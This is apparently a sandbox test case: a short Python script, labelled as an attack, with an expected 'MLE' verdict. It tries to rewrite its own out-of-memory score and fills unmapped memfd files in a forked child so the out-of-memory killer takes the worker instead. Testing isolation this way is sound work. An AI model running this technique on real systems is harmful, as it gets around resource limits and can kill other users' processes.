# attack: lowers its mark for the memory killer and fills files that no process maps, to have the worker taken instead
# verdict: MLE
# after: nothing left
import os
import sys

try:
    with open("/proc/self/oom_score_adj", "w") as mark:
        mark.write("0")
    print("ESCAPED: chose its mark", file=sys.stderr)
except OSError:
    pass
MEBIBYTE = bytes(1 << 20)
says, hears = os.pipe()[::-1]
if os.fork() == 0:
    for number in range(48):
        os.write(os.memfd_create("x", 0), MEBIBYTE)
    # Closes the pipe, and leaves a process with files and next to no memory of its own.
    os.execv("/bin/sleep", ["sleep", "60"])
os.close(says)
os.read(hears, 1)
for number in range(15):
    os.write(os.memfd_create("x", 0), MEBIBYTE)
# So does this one; who asks for the last page is small as well.
os.execv("/bin/sh", ["sh", "-c", "for file in 5 6 7 8 9; do head -c 1000000 /dev/zero >&$file; done; exec sleep 60"])
